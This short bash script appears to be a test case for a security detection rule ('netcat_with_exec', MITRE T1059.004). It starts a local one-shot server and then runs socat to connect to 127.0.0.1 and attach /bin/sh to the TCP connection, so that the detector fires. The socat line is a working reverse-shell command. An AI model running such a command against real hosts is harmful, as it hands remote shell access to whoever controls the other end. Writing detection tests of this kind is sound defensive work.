# technique: T1059.004 socat runs /bin/sh on a TCP connection
# rule: netcat_with_exec
# exe: /usr/bin/socat
. "$(dirname "$0")/common.bash"
serve_once 'exit
'
socat "TCP:127.0.0.1:$VG_PORT" EXEC:/bin/sh || true
